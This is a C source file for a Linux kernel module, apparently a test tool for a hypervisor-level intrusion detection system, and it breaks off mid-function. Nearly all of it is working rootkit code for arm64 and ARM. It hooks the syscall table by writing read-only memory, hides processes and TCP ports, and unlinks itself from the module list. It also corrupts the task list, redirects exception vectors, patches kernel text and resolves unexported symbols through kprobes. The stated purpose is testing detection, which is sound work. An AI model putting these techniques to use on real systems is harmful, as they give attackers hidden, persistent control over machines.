// SPDX-License-Identifier: GPL-2.0
/*
 * mamoru_attack: a TEST TOOL for Mamoru's intrusion detection. It does, on purpose, the three
 * things the IDS must notice from outside the guest:
 *
 *   sct=ADDR nr=N   replace sys_call_table[N] with a function of this module that counts
 *                   calls (parameter `calls`) and forwards to the original handler
 *   hide_pid=P      unlink process P from the kernel's task list (DKOM). /proc, and so `ps`,
 *                   lists processes from the PID table, not the task list: when the hooked
 *                   call is getdents64 (the default), the hook also drops P from listings
 *                   of the /proc root, like a rootkit would. `kill -0 P`, /proc/P still work.
 *   hide_self=1     unlink this module from the module list: lsmod loses it (and rmmod
 *                   can no longer find it, so everything stays until the guest reboots)
 *   loop_pid=P      corrupt the task list: P's `next` points back at P, so a walk from
 *                   init_task never ends (hostile memory for the IDS; not undone on unload,
 *                   the guest must be reset)
 *   more_nr=A,B,..  (with sct) also hook these system calls, each forwarding to its original
 *   banner=ADDR     change one byte of linux_banner (runtime address ADDR): "Linux version"
 *                   becomes "linux version", through a writable alias of its page
 *   vbar=1          redirect the exception vectors to a table of this module's (branches to
 *     tcv=ADDR      the kernel's entries, so the guest keeps working), in VBAR_EL1 and where
 *     tramp_start=A the kernel reloads it from: each CPU's this_cpu_vector (ADDR: that per-CPU
 *     tramp_end=B   variable's address) without KPTI; with KPTI (the kernel unmapped at EL0),
 *                   the trampoline's pointer to `vectors`, a read-only quad at the start of a
 *                   page in [A, B) (the trampoline's pages after tramp_vectors), which every
 *                   entry from user mode loads into VBAR_EL1
 *   inline_hook=1   patch kernel text: the first instruction of __arm64_sys_getdents64 (the
 *                   `mov x9, x30` of its ftrace entry, free to overwrite) becomes a branch to
 *                   a trampoline in this module that counts the call (`calls`) and resumes the
 *                   handler after the patch. `b` when the module is within 128 MiB, else
 *                   `adrp x16, tramp; br x16` over the entry's two instructions
 *   kprobe_hook=1   register a kprobe (a BRK written into kernel text) on the same handler
 *                   with a pre_handler that counts calls
 *   hide_port=N     hide TCP port N from /proc/net/tcp and /proc/net/tcp6 (so from netstat
 *                   and ss without netlink) without writing read-only memory: each entry's
 *                   proc_dir_entry (slab memory) gets its seq_ops pointed at a copy of the
 *                   kernel's seq_operations whose show skips sockets with N as local or
 *                   remote port. The entry is found the way a rootkit without the kernel's
 *                   private headers would: open the file, take the seq_operations its
 *                   seq_file got (the entry's seq_ops), then look for the pointer to the
 *                   entry just before the inode (struct proc_inode) and for that value in it
 *   unhash_port=N   unlink the TCP listener on port N from the kernel's listening hash table
 *                   (DKOM): /proc/net/tcp, netstat and ss lose it, and new connections to N
 *                   are refused, while connections it accepted before go on. Unloading
 *                   hashes it again. Needs TCP/IP (refused without CONFIG_INET)
 *   hog_ms=M        a kernel thread bound to CPU hog_cpu (default 0) that holds it with
 *     hog_cpu=C     interrupts masked while the parameter hog_hold is 1, M ms at most: a
 *                   vCPU that never leaves the guest by itself (no interrupt it takes, no
 *                   timer of its own), which must not keep a core the hypervisor shares with
 *                   another guest's vCPU. The hold begins when hog_hold is written 1
 *                   (/sys/module/mamoru_attack/parameters/hog_hold) and ends when it is
 *                   written 0 or M ms have passed; write it from another CPU. The kernel log
 *                   says "holding cpu C" once held and "held cpu C for T ms (released)" or
 *                   "(time limit)" after. Started by a write, not by the load: the end of a
 *                   module load waits for every CPU, so a hold that began during it would
 *                   keep insmod until the hold ended
 *
 * Architectures: arm64 (Debian's cloud kernels) and 32-bit ARM (the versatilepb guest's 6.1
 * kernel, ARMv5). vbar, inline_hook and kprobe_hook are arm64 only: elsewhere insmod fails
 * with "not supported on this architecture". On 32-bit ARM the hooked handlers are the
 * sys_<name> functions (getdents64 is 217) and table entries are 4 bytes.
 *
 * The kernel's kallsyms has no data symbols, so the caller passes the runtime address of
 * sys_call_table. On arm64 the table is read-only data: the slot is written through a
 * temporary writable mapping (vmap) of the table's physical page; kernel text likewise
 * (inline_hook), with the caches cleaned to the point of unification on both mappings. On
 * 32-bit ARM without STRICT_KERNEL_RWX the linear map is writable: a plain store, and the
 * VIVT D-cache line cleaned to memory.
 * Both unlinks run under stop_machine(): the locks that guard these lists are not exported,
 * and with every CPU in the stopper no lock holder or RCU reader (this kernel's RCU is not
 * preemptible) is in the middle of either list.
 *
 * Unloading (possible only without hide_self) puts everything back.
 */
#include <linux/atomic.h>
#include <linux/delay.h>
#include <linux/dirent.h>
#include <linux/file.h>
#include <linux/fs.h>
#include <linux/kallsyms.h>
#include <linux/kthread.h>
#include <linux/ktime.h>
#include <linux/kprobes.h>
#include <linux/magic.h>
#include <linux/mm.h>
#include <linux/module.h>
#include <linux/pid.h>
#include <linux/proc_fs.h>
#include <linux/rculist.h>
#include <linux/sched.h>
#include <linux/sched/signal.h>
#include <linux/sched/task.h>
#include <linux/stop_machine.h>
#include <linux/slab.h>
#include <linux/seq_file.h>
#include <linux/uaccess.h>
#include <net/inet_hashtables.h>
#include <net/sock.h>
#include <net/tcp.h>
#include <linux/vmalloc.h>
#include <linux/kprobes.h>
#include <linux/percpu.h>
#include <linux/sizes.h>
#include <asm/cacheflush.h>
#include <asm/memory.h>
#include <asm/mmu.h>
#include <asm/syscall.h>
#include <asm/unistd.h>
#ifdef CONFIG_ARM64
#include <asm/sysreg.h>
#endif

#define PFX "mamoru_attack: "

/*
 * What a system call table entry is. arm64: a function of the saved registers, named
 * __arm64_sys_<name>. 32-bit ARM: a plain C function of up to six register-sized arguments
 * (r0-r3 and two words the entry code pushed), named sys_<name>; a hook taking and passing
 * on six words forwards any of them unchanged. HOOK_PARAMS/HOOK_ARGS declare and pass the
 * arguments, ARG(i) is the i-th one.
 */
#ifdef CONFIG_ARM64
#define SYS_PREFIX "__arm64_sys_"
typedef syscall_fn_t handler_fn;
#define HOOK_PARAMS const struct pt_regs *regs
#define HOOK_ARGS regs
#define ARG(i) (regs->regs[i])
#else
#define SYS_PREFIX "sys_"
typedef long (*handler_fn)(unsigned long, unsigned long, unsigned long, unsigned long,
			   unsigned long, unsigned long);
#define HOOK_PARAMS unsigned long a0, unsigned long a1, unsigned long a2, unsigned long a3, \
		    unsigned long a4, unsigned long a5
#define HOOK_ARGS a0, a1, a2, a3, a4, a5
#define ARG(i) (a##i)
#endif

static unsigned long sct;
module_param(sct, ulong, 0444);
MODULE_PARM_DESC(sct, "runtime address of sys_call_table (0: hook nothing)");

static int nr = __NR_getdents64;	/* 61 on arm64, 217 on 32-bit ARM */
module_param(nr, int, 0444);
MODULE_PARM_DESC(nr, "system call number to hook (default getdents64: 61 arm64, 217 arm)");

static int hide_pid;
module_param(hide_pid, int, 0444);
static int loop_pid;
module_param(loop_pid, int, 0444);
MODULE_PARM_DESC(loop_pid, "PID whose task-list entry is made to point at itself (0: none)");
MODULE_PARM_DESC(hide_pid, "PID of a process to unlink from the task list (0: none)");

static bool hide_self;
module_param(hide_self, bool, 0444);
MODULE_PARM_DESC(hide_self, "unlink this module from the module list (then it cannot unload)");

#define MAX_MORE 4
static int more_nr[MAX_MORE];
static int n_more;
module_param_array(more_nr, int, &n_more, 0444);
MODULE_PARM_DESC(more_nr, "more system call numbers to hook (with sct), up to 4");

static unsigned long banner;
module_param(banner, ulong, 0444);
MODULE_PARM_DESC(banner, "runtime address of linux_banner: change its first byte (0: no)");

static bool vbar;
module_param(vbar, bool, 0444);
MODULE_PARM_DESC(vbar, "redirect VBAR_EL1 to a vector table of this module");
static unsigned long tcv;
module_param(tcv, ulong, 0444);
MODULE_PARM_DESC(tcv, "address of the per-CPU variable this_cpu_vector (for vbar=1)");
static unsigned long tramp_start, tramp_end;
module_param(tramp_start, ulong, 0444);
module_param(tramp_end, ulong, 0444);
MODULE_PARM_DESC(tramp_start, "where to look for the KPTI trampoline's data (for vbar=1)");
MODULE_PARM_DESC(tramp_end, "end of that range");
static bool inline_hook;
module_param(inline_hook, bool, 0444);
MODULE_PARM_DESC(inline_hook, "branch from the start of __arm64_sys_getdents64 into this module");

static bool kprobe_hook;
module_param(kprobe_hook, bool, 0444);
MODULE_PARM_DESC(kprobe_hook, "put a kprobe on __arm64_sys_getdents64");

static int hide_port;
module_param(hide_port, int, 0444);
MODULE_PARM_DESC(hide_port, "TCP port to hide from /proc/net/tcp and tcp6 (0: none)");

static int unhash_port;
module_param(unhash_port, int, 0444);
MODULE_PARM_DESC(unhash_port, "TCP port whose listener is unlinked from the hash table (0: none)");

static int hog_cpu;
module_param(hog_cpu, int, 0444);
MODULE_PARM_DESC(hog_cpu, "with hog_ms: the CPU to hold");

static int hog_ms;
module_param(hog_ms, int, 0444);
MODULE_PARM_DESC(hog_ms, "hold CPU hog_cpu with interrupts masked, this many ms at most (0: no hog)");

static int hog_hold;
module_param(hog_hold, int, 0644);
MODULE_PARM_DESC(hog_hold, "with hog_ms: write 1 to begin the hold, 0 to end it");

static atomic_long_t calls = ATOMIC_LONG_INIT(0);
static atomic_t in_hook = ATOMIC_INIT(0);

static int calls_get(char *buf, const struct kernel_param *kp)
{
	return sysfs_emit(buf, "%ld\n", atomic_long_read(&calls));
}

static const struct kernel_param_ops calls_ops = { .get = calls_get };
module_param_cb(calls, &calls_ops, NULL, 0444);
MODULE_PARM_DESC(calls, "how many times the hooked system call ran (read-only)");

static handler_fn *slot;	/* &sys_call_table[nr] once hooked */
static handler_fn original;
static struct task_struct *hidden_task;
static char hidden_name[16];	/* hide_pid in decimal: its directory name in /proc */

static bool is_proc_root(unsigned int fd)
{
	struct file *f = fget(fd);
	bool yes;

	if (!f)
		return false;
	yes = f->f_path.dentry->d_sb->s_magic == PROC_SUPER_MAGIC &&
	      f->f_path.dentry == f->f_path.dentry->d_sb->s_root;
	fput(f);
	return yes;
}

/*
 * getdents64 returned len bytes of records at user address records: drops the hidden
 * process's entry if there is one. Returns the new length (unchanged when there is nothing
 * to do).
 */
static long drop_hidden_entry(void __user *records, long len)
{
	long pos = 0, out = 0;
	char *buf;

	buf = kvmalloc(len, GFP_KERNEL);
	if (!buf)
		return len;
	if (copy_from_user(buf, records, len))
		goto keep;
	while (pos < len) {
		struct linux_dirent64 *d = (struct linux_dirent64 *)(buf + pos);
		long reclen;

		if (len - pos < (long)offsetof(struct linux_dirent64, d_name) + 1)
			goto keep;
		reclen = d->d_reclen;
		if (reclen <= (long)offsetof(struct linux_dirent64, d_name) || reclen > len - pos)
			goto keep;
		if (strncmp(d->d_name, hidden_name,
			    reclen - offsetof(struct linux_dirent64, d_name)) != 0) {
			memmove(buf + out, buf + pos, reclen);
			out += reclen;
		}
		pos += reclen;
	}
	if (out == len || copy_to_user(records, buf, out))
		goto keep;
	kvfree(buf);
	return out;
keep:
	kvfree(buf);
	return len;
}

static long hooked_syscall(HOOK_PARAMS)
{
	long ret;

	atomic_inc(&in_hook);
	atomic_long_inc(&calls);
	ret = original(HOOK_ARGS);
	if (nr == __NR_getdents64 && hidden_task && is_proc_root(ARG(0))) {
		/* An empty result means "end of directory": read on if only P was dropped. */
		while (ret > 0) {
			long kept = drop_hidden_entry((void __user *)ARG(1), ret);

			if (kept > 0) {
				ret = kept;
				break;
			}
			ret = original(HOOK_ARGS);
		}
	}
	atomic_dec(&in_hook);
	return ret;
}

#ifdef CONFIG_ARM64
/*
 * Stores the low size (1, 4 or 8) bytes of val at where, in the read-only kernel image,
 * through a writable alias of its page: the one way this module writes what the kernel
 * mapped read-only (a syscall-table slot, a banner byte, an instruction). With text, the
 * instruction cache is resynchronised on every CPU afterwards.
 */
static int write_ro(void *where, u64 val, int size, bool text)
{
	unsigned long addr = (unsigned long)where;
	phys_addr_t pa = addr - kimage_voffset;	/* kernel image: PA = VA - kimage_voffset */
	struct page *page;
	void *alias, *p;

	if (!pfn_valid(PHYS_PFN(pa)))
		return -EFAULT;
	page = pfn_to_page(PHYS_PFN(pa));
	alias = vmap(&page, 1, VM_MAP, PAGE_KERNEL);
	if (!alias)
		return -ENOMEM;
	p = alias + offset_in_page(addr);
	if (size == 1)
		WRITE_ONCE(*(u8 *)p, (u8)val);
	else if (size == 4)
		WRITE_ONCE(*(__le32 *)p, cpu_to_le32((u32)val));
	else
		WRITE_ONCE(*(u64 *)p, val);
	if (text)
		caches_clean_inval_pou((unsigned long)p, (unsigned long)p + size);
	vunmap(alias);
	if (text)
		flush_icache_range(addr, addr + size);	/* the real VA, and every CPU */
	return 0;
}
#else
/*
 * 32-bit ARM: stores the low size (1 or 4) bytes of val at where, in the kernel image.
 * Without STRICT_KERNEL_RWX (the versatile guest's kernel) the linear map holds the whole
 * image writable, so this is a plain store. The ARM926's caches are virtually indexed and
 * tagged: the store may sit in a D-cache line of this address only, so the line is cleaned
 * (and invalidated) to memory, where anything reading the physical page (the instruction
 * fetch of text, the hypervisor's introspection) finds it.
 */
static int write_ro(void *where, u64 val, int size, bool text)
{
	unsigned long addr = (unsigned long)where;

	if (IS_ENABLED(CONFIG_STRICT_KERNEL_RWX)) {
		pr_err(PFX "the kernel text and rodata are read-only (STRICT_KERNEL_RWX)\n");
		return -EPERM;
	}
	if (size == 1)
		WRITE_ONCE(*(u8 *)where, (u8)val);
	else if (size == 4)
		WRITE_ONCE(*(u32 *)where, (u32)val);
	else
		return -EINVAL;
	__cpuc_flush_dcache_area(where, size);
	if (text)
		flush_icache_range(addr, addr + size);
	return 0;
}
#endif

static int write_ro_word(handler_fn *where, handler_fn fn)
{
	return write_ro(where, (u64)(unsigned long)fn, sizeof(fn), false);
}

/*
 * Whether a table entry, by its sprint_symbol() name, is a handler this module can forward
 * to: the architecture's handler prefix (a slot already hooked holds this module's function).
 * On 32-bit ARM not the assembly entries that read or write the caller's stack as the
 * entry code left it (the *_wrapper ones, sys_mmap2, sys_syscall): a C hook in between
 * moves the stack.
 */
static bool hookable(const char *name)
{
	if (strncmp(name, SYS_PREFIX, strlen(SYS_PREFIX)) != 0)
		return false;
	if (IS_ENABLED(CONFIG_ARM64))
		return true;
	return !strstr(name, "_wrapper+") && strncmp(name, "sys_mmap2+", 10) != 0 &&
	       strncmp(name, "sys_syscall+", 12) != 0;
}

/* sprint_symbol() of the handler in table slot i, or -EFAULT if the slot cannot be read. */
static int slot_symbol(unsigned long table, int i, handler_fn *fn, char *name)
{
	if (copy_from_kernel_nofault(fn, (handler_fn *)table + i, sizeof(*fn)))
		return -EFAULT;
	sprint_symbol(name, (unsigned long)*fn);
	return 0;
}

static int hook_syscall(void)
{
	char name[KSYM_SYMBOL_LEN];
	handler_fn fn;
	int err;

	if (nr < 0 || nr >= __NR_syscalls) {
		pr_err(PFX "nr=%d is not a system call number\n", nr);
		return -EINVAL;
	}
	/* A wrong address would have us write into random kernel data: check the table first. */
	if (!IS_ALIGNED(sct, sizeof(fn)) || slot_symbol(sct, __NR_read, &fn, name) ||
	    strncmp(name, SYS_PREFIX "read+0x0/", strlen(SYS_PREFIX "read+0x0/")) != 0) {
		pr_err(PFX "sct=%#lx is not sys_call_table (slot %d is not " SYS_PREFIX "read)\n",
		       sct, __NR_read);
		return -EINVAL;
	}
	if (slot_symbol(sct, nr, &fn, name) || !hookable(name)) {
		pr_err(PFX "slot %d holds %px, not a system call handler (hooked already?)\n",
		       nr, fn);
		return -EBUSY;
	}
	slot = (handler_fn *)sct + nr;
	original = fn;
	err = write_ro_word(slot, hooked_syscall);
	if (err) {
		pr_err(PFX "cannot write slot %d at %px: %d\n", nr, slot, err);
		slot = NULL;
		return err;
	}
	pr_info(PFX "hooked syscall %d at %px: %px -> %px (%s)\n",
		nr, slot, original, hooked_syscall, name);
	return 0;
}

static void unhook_syscall(void)
{
	if (!slot)
		return;
	if (write_ro_word(slot, original)) {
		/* Cannot happen once the first write worked; never free code still in the table. */
		pr_crit(PFX "cannot restore slot %d: the module stays loaded\n", nr);
		__module_get(THIS_MODULE);
		return;
	}
	/*
	 * Callers that read the old pointer have since gone to user mode or slept; the ones that
	 * slept did so in the original handler, counted in in_hook. Wait for those, then for a
	 * grace period, so that nobody still runs the last instructions of hooked_syscall.
	 */
	synchronize_rcu();
	while (atomic_read(&in_hook))
		msleep(10);
	synchronize_rcu();
	pr_info(PFX "restored syscall %d at %px: %px\n", nr, slot, original);
	slot = NULL;
}

static int unlink_task(void *task)
{
	list_del_init(&((struct task_struct *)task)->tasks);
	return 0;
}

/* Returns 1 if the task went back on the list, 0 if it has exited meanwhile. */
static int relink_task(void *task)
{
	struct task_struct *t = task;

	/* After the task exits, its thread_pid is gone and exit has unlinked it itself. */
	if (!pid_alive(t) || !list_empty(&t->tasks))
		return 0;
	list_add_tail_rcu(&t->tasks, &init_task.tasks);
	return 1;
}

static int hide_task(void)
{
	struct task_struct *t;
	int err;

	rcu_read_lock();
	t = pid_task(find_vpid(hide_pid), PIDTYPE_PID);
	if (t)
		get_task_struct(t);
	rcu_read_unlock();
	if (!t) {
		pr_err(PFX "no process %d\n", hide_pid);
		return -ESRCH;
	}
	/* Only thread-group leaders are on the task list. */
	if (!thread_group_leader(t) || t == current || t->pid == 1) {
		pr_err(PFX "will not hide %d (not a process leader, init or the loader)\n",
		       hide_pid);
		put_task_struct(t);
		return -EINVAL;
	}
	err = stop_machine(unlink_task, t, NULL);
	if (err) {
		put_task_struct(t);
		return err;
	}
	snprintf(hidden_name, sizeof(hidden_name), "%d", hide_pid);
	hidden_task = t;
	pr_info(PFX "hid pid %d\n", hide_pid);
	return 0;
}

static void unhide_task(void)
{
	if (!hidden_task)
		return;
	if (stop_machine(relink_task, hidden_task, NULL) == 1)
		pr_info(PFX "unhid pid %d\n", hide_pid);
	else
		pr_info(PFX "pid %d has exited: nothing to unhide\n", hide_pid);
	put_task_struct(hidden_task);
	hidden_task = NULL;
}

static int loop_task(void *task)
{
	struct task_struct *t = task;

	WRITE_ONCE(t->tasks.next, &t->tasks);
	return 0;
}

static int corrupt_task_list(void)
{
	struct task_struct *t;

	rcu_read_lock();
	t = pid_task(find_vpid(loop_pid), PIDTYPE_PID);
	rcu_read_unlock();
	if (!t || !thread_group_leader(t) || t->pid == 1) {
		pr_err(PFX "will not loop %d (no such process leader, or init)\n", loop_pid);
		return -EINVAL;
	}
	stop_machine(loop_task, t, NULL);
	pr_info(PFX "task list now loops at pid %d\n", loop_pid);
	return 0;
}

/* -- more system call hooks (more_nr=) ---------------------------------------- */

static handler_fn *more_slot[MAX_MORE];
static handler_fn more_original[MAX_MORE];

/* Slot i's hook: counts the call and forwards it to slot i's original handler. One function
 * per slot, since a 32-bit ARM handler is not told its system call number. */
static long forward(int i, HOOK_PARAMS)
{
	long ret;

	atomic_inc(&in_hook);
	atomic_long_inc(&calls);
	ret = more_original[i](HOOK_ARGS);
	atomic_dec(&in_hook);
	return ret;
}

static long forward0(HOOK_PARAMS) { return forward(0, HOOK_ARGS); }
static long forward1(HOOK_PARAMS) { return forward(1, HOOK_ARGS); }
static long forward2(HOOK_PARAMS) { return forward(2, HOOK_ARGS); }
static long forward3(HOOK_PARAMS) { return forward(3, HOOK_ARGS); }
static const handler_fn forwarders[MAX_MORE] = { forward0, forward1, forward2, forward3 };

static void unhook_more(void)
{
	int i;

	for (i = 0; i < n_more; i++) {
		if (!more_slot[i])
			continue;
		if (write_ro_word(more_slot[i], more_original[i])) {
			pr_crit(PFX "cannot restore slot %d: the module stays loaded\n", more_nr[i]);
			__module_get(THIS_MODULE);
			continue;
		}
		more_slot[i] = NULL;
	}
	synchronize_rcu();
	while (atomic_read(&in_hook))
		msleep(10);
	synchronize_rcu();
}

/* Called after hook_syscall() checked sct. */
static int hook_more(void)
{
	char name[KSYM_SYMBOL_LEN];
	handler_fn fn;
	int i, err;

	for (i = 0; i < n_more; i++) {
		if (more_nr[i] < 0 || more_nr[i] >= __NR_syscalls || more_nr[i] == nr ||
		    slot_symbol(sct, more_nr[i], &fn, name) || !hookable(name)) {
			pr_err(PFX "more_nr %d: not a free system call slot\n", more_nr[i]);
			unhook_more();
			return -EINVAL;
		}
		more_original[i] = fn;
		err = write_ro_word((handler_fn *)sct + more_nr[i], forwarders[i]);
		if (err) {
			unhook_more();
			return err;
		}
		more_slot[i] = (handler_fn *)sct + more_nr[i];
		pr_info(PFX "hooked syscall %d: %px -> %px (%s)\n", more_nr[i], fn, forwarders[i],
			name);
	}
	return 0;
}

/* -- one byte of linux_banner (banner=) ----------------------------------------- */

static char banner_old;
static bool banner_changed;

/* Stores one byte of read-only kernel image data through a writable alias. */
static int change_banner(void)
{
	char head[14];
	int err;

	if (copy_from_kernel_nofault(head, (void *)banner, sizeof(head)) ||
	    memcmp(head, "Linux version ", sizeof(head))) {
		pr_err(PFX "banner=%#lx is not linux_banner\n", banner);
		return -EINVAL;
	}
	banner_old = head[0];
	err = write_ro((char *)banner, 'l', 1, false);
	if (err)
		return err;
	banner_changed = true;
	pr_info(PFX "changed linux_banner's first byte\n");
	return 0;
}

static void restore_banner(void)
{
	if (banner_changed && !write_ro((char *)banner, (u8)banner_old, 1, false))
		banner_changed = false;
}

static int unlink_module(void *mod)
{
	/* Like list_del_rcu: a walker standing on this entry still finds the next one. */
	list_del_rcu(&((struct module *)mod)->list);
	return 0;
}

#ifdef CONFIG_ARM64
/* -- exception vectors (vbar=1) ------------------------------------------------- */

typedef void *(*vmalloc_range_fn)(unsigned long size, unsigned long align, unsigned long start,
				  unsigned long end, gfp_t gfp, pgprot_t prot,
				  unsigned long vm_flags, int node, const void *caller);

#define VECTORS_SIZE 0x800
#define VECTOR_ENTRY 0x80

static u32 *fake_vectors;
static unsigned long orig_vectors;
static handler_fn *tramp_slot;	/* the trampoline's `.quad vectors` (KPTI) */

/* A text symbol's address, the way rootkits find what is not exported: kallsyms_lookup_name
 * through a kprobe's address resolution. */
static unsigned long kallsyms_symbol(const char *name)
{
	struct kprobe kp = { .symbol_name = "kallsyms_lookup_name" };
	unsigned long (*lookup)(const char *name);

	if (register_kprobe(&kp))
		return 0;
	lookup = (void *)kp.addr;
	unregister_kprobe(&kp);
	return lookup(name);
}

static void set_vectors(void *table)
{
	if (!arm64_kernel_unmapped_at_el0())
		*(unsigned long *)per_cpu_ptr((void __percpu *)tcv, smp_processor_id()) =
			(unsigned long)table;
	write_sysreg((unsigned long)table, vbar_el1);
	isb();
}

/* The page-aligned read-only quad holding `vectors` that the KPTI trampoline loads. */
static handler_fn *find_tramp_slot(void)
{
	unsigned long p;
	u64 q;

	for (p = PAGE_ALIGN(tramp_start); p + sizeof(q) <= tramp_end; p += PAGE_SIZE)
		if (!copy_from_kernel_nofault(&q, (void *)p, sizeof(q)) && q == orig_vectors)
			return (handler_fn *)p;
	return NULL;
}

static u32 branch(unsigned long from, unsigned long to)
{
	long off = (long)(to - from);

	return 0x14000000 | ((u32)(off >> 2) & 0x03ffffff);
}

static int redirect_vectors(void)
{
	vmalloc_range_fn alloc = (vmalloc_range_fn)kallsyms_symbol("__vmalloc_node_range");
	bool kpti = arm64_kernel_unmapped_at_el0();
	unsigned long lo, hi, i;

	orig_vectors = read_sysreg(vbar_el1);
	if (!alloc || (kpti ? !tramp_start || !tramp_end : !tcv)) {
		pr_err(PFX "vbar: need __vmalloc_node_range (found %px) and %s\n", alloc,
		       kpti ? "tramp_start= tramp_end=" : "tcv=");
		return -EINVAL;
	}
	if (kpti) {
		tramp_slot = find_tramp_slot();
		if (!tramp_slot) {
			pr_err(PFX "vbar: no trampoline pointer to %px\n",
			       (void *)orig_vectors);
			return -ENOENT;
		}
	}
	/* Close enough to the kernel's vectors for plain branches (+-128 MiB). */
	lo = (orig_vectors - SZ_64M) & PAGE_MASK;
	hi = orig_vectors + SZ_64M;
	fake_vectors = alloc(PAGE_SIZE, PAGE_SIZE, lo, hi, GFP_KERNEL, PAGE_KERNEL_EXEC, 0,
			     NUMA_NO_NODE, __builtin_return_address(0));
	if (!fake_vectors) {
		pr_err(PFX "vbar: no executable page near the vectors\n");
		return -ENOMEM;
	}
	for (i = 0; i < VECTORS_SIZE / 4; i++)
		fake_vectors[i] = 0xd4200000;                    /* brk #0 */
	/* Each entry: +0 branches to the kernel's entry; +4 to its second instruction, where
	 * the KPTI trampoline enters (it skips the first). */
	for (i = 0; i < VECTORS_SIZE / VECTOR_ENTRY; i++) {
		unsigned long mine = (unsigned long)fake_vectors + i * VECTOR_ENTRY;
		unsigned long theirs = orig_vectors + i * VECTOR_ENTRY;

		fake_vectors[i * VECTOR_ENTRY / 4] = branch(mine, theirs);
		fake_vectors[i * VECTOR_ENTRY / 4 + 1] = branch(mine + 4, theirs + 4);
	}
	caches_clean_inval_pou((unsigned long)fake_vectors,
			       (unsigned long)fake_vectors + VECTORS_SIZE);
	if (tramp_slot && write_ro_word(tramp_slot, (handler_fn)fake_vectors)) {
		tramp_slot = NULL;
		return -EFAULT;
	}
	on_each_cpu(set_vectors, fake_vectors, 1);
	pr_info(PFX "vbar: vectors %px -> %px (KPTI trampoline's pointer at %px)\n",
		(void *)orig_vectors, fake_vectors, tramp_slot);
	return 0;
}

static void restore_vectors(void)
{
	if (!fake_vectors)
		return;
	if (tramp_slot)
		write_ro_word(tramp_slot, (handler_fn)orig_vectors);
	on_each_cpu(set_vectors, (void *)orig_vectors, 1);
	/* The page stays: an exception taken just now may still be on its way through it. */
	fake_vectors = NULL;
	tramp_slot = NULL;
}

/* -- kernel text: inline patch and kprobe ------------------------------------------------ */

#define TEXT_TARGET "__arm64_sys_getdents64"
#define A64_NOP 0xd503201fu

void mamoru_inline_count(void);
void mamoru_inline_tramp(void);
unsigned long mamoru_inline_resume;	/* where the trampoline goes back to */

void mamoru_inline_count(void)
{
	atomic_long_inc(&calls);
}

/*
 * Entered by a branch from the patched handler with its arguments in place: counts the call
 * and resumes the handler after the patched instructions (x9, x16 are free at a function's
 * entry; x9 only ever held the ftrace entry's copy of x30). Page-aligned, so that one adrp
 * reaches it. `bti c` (hint 34) admits the `br x16` on CPUs with BTI.
 */
asm("	.pushsection .text, \"ax\"\n"
    "	.balign 4096\n"
    "	.globl mamoru_inline_tramp\n"
    "	.type mamoru_inline_tramp, %function\n"
    "mamoru_inline_tramp:\n"
    "	hint 34\n"
    "	stp x29, x30, [sp, #-32]!\n"
    "	mov x29, sp\n"
    "	stp x0, x1, [sp, #16]\n"
    "	bl mamoru_inline_count\n"
    "	ldp x0, x1, [sp, #16]\n"
    "	ldp x29, x30, [sp], #32\n"
    "	adrp x16, mamoru_inline_resume\n"
    "	ldr x16, [x16, :lo12:mamoru_inline_resume]\n"
    "	br x16\n"
    "	.size mamoru_inline_tramp, . - mamoru_inline_tramp\n"
    "	.popsection\n");

static u32 *patched;		/* the handler's first instruction, once patched */
static u32 saved[2];
static int npatched;

/* The runtime address of a text symbol: kallsyms_lookup_name is not exported, a kprobe's is. */
static unsigned long text_symbol(const char *name, unsigned int offset)
{
	struct kprobe kp = { .symbol_name = name, .offset = offset };
	unsigned long addr;

	if (register_kprobe(&kp))
		return 0;
	addr = (unsigned long)kp.addr - offset;
	unregister_kprobe(&kp);
	return addr;
}

/* Writes one instruction of kernel text through a writable alias of its page. */
static int write_text(u32 *where, u32 insn)
{
	return write_ro(where, insn, sizeof(insn), true);
}

static u32 a64_b(unsigned long from, unsigned long to)
{
	return 0x14000000u | (((u32)((long)(to - from) >> 2)) & 0x03ffffffu);
}

static u32 a64_adrp_x16(unsigned long from, unsigned long to)
{
	long pages = ((long)(to & PAGE_MASK) - (long)(from & PAGE_MASK)) >> 12;
	u32 imm = (u32)pages & 0x1fffffu;

	return 0x90000010u | ((imm & 3u) << 29) | ((imm >> 2) << 5);
}

static int inline_patch(void)
{
	unsigned long fn = text_symbol(TEXT_TARGET, 8), tramp = (unsigned long)mamoru_inline_tramp;
	long dist = (long)(tramp - fn);
	u32 *at = (u32 *)fn;
	int err;

	if (!fn) {
		pr_err(PFX "cannot find %s\n", TEXT_TARGET);
		return -ENOENT;
	}
	saved[0] = le32_to_cpu(READ_ONCE(at[0]));
	saved[1] = le32_to_cpu(READ_ONCE(at[1]));
	if (saved[1] != A64_NOP) {
		pr_err(PFX "%s+4 is %08x, not the ftrace entry's NOP\n", TEXT_TARGET, saved[1]);
		return -EBUSY;
	}
	if (dist > -(128L << 20) + 4096 && dist < (128L << 20) - 4096) {
		mamoru_inline_resume = fn + 4;
		npatched = 1;
		err = write_text(at, a64_b(fn, tramp));
	} else {
		/* adrp first (harmless alone: x16 is free), then the br that uses it. */
		mamoru_inline_resume = fn + 8;
		npatched = 2;
		err = write_text(at, a64_adrp_x16(fn, tramp));
		if (!err)
			err = write_text(at + 1, 0xd61f0200u);	/* br x16 */
	}
	if (err) {
		pr_err(PFX "cannot patch %s: %d\n", TEXT_TARGET, err);
		if (npatched == 2)
			write_text(at, saved[0]);
		return err;
	}
	patched = at;
	pr_info(PFX "patched %s at %px: branch to %px\n", TEXT_TARGET, at, mamoru_inline_tramp);
	return 0;
}

static void inline_unpatch(void)
{
	if (!patched)
		return;
	if (npatched == 2)
		write_text(patched + 1, saved[1]);	/* the br first: adrp alone is harmless */
	write_text(patched, saved[0]);
	/* Nobody can still be in the trampoline once every CPU went through a quiescent state:
	 * it never sleeps, and this kernel does not preempt kernel code. */
	synchronize_rcu();
	pr_info(PFX "restored %s\n", TEXT_TARGET);
	patched = NULL;
}

static int probe_pre(struct kprobe *p, struct pt_regs *regs)
{
	atomic_long_inc(&calls);
	return 0;
}

static struct kprobe probe = { .symbol_name = TEXT_TARGET, .pre_handler = probe_pre };
static bool probed;

static int kprobe_attach(void)
{
	int err;

	/* The handler's first instructions are its ftrace entry, which kprobes refuse here
	 * (no KPROBES_ON_FTRACE): probe the first instruction after it. */
	probe.offset = 8;
	err = register_kprobe(&probe);
	if (err) {
		pr_err(PFX "register_kprobe(%s+%u): %d\n", TEXT_TARGET, probe.offset, err);
		return err;
	}
	probed = true;
	pr_info(PFX "kprobe at %px (%s+%u)\n", probe.addr, TEXT_TARGET, probe.offset);
	return 0;
}

static void kprobe_detach(void)
{
	if (probed)
